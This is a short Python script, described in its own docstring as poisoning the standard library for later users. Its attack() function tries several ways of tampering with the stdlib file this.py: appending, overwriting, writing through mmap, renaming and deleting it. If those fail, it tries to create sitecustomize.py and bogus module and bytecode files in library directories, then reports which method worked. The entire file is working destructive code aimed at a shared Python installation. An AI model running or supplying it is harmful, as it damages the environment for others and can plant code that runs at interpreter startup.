"""Poison the standard library for those who come after: its files, its caches, its directories."""

import mmap
import os

LIBRARY = os.path.dirname(os.__file__)
VICTIM = os.path.join(LIBRARY, "this.py")  # the one that would be missed least


def append(path):
    with open(path, "ab") as file:
        file.write(b"\n# was here\n")


def overwrite(path):
    os.pwrite(os.open(path, os.O_WRONLY), b"#", 0)


def through_memory(path):
    mmap.mmap(os.open(path, os.O_RDWR), 0)[0] = 35


def replace(path):
    os.rename(path, path + ".bak")


def attack():
    for way in (append, overwrite, through_memory, replace, os.unlink):
        try:
            way(VICTIM)
        except OSError:
            continue
        return f"{way.__name__} worked on {VICTIM}"
    for place in (".", "__pycache__", "site-packages", "lib-dynload", "encodings"):
        for name in ("sitecustomize.py", "hostile_was_here.py", "hostile_was_here.cpython-311.pyc"):
            try:
                os.open(os.path.join(LIBRARY, place, name), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            except OSError:
                continue
            return f"made {name} in {place} of the library"
